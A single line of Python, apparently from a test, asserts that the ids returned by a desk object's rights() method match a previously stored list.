    assert [right.id for right in desk.rights()] == old
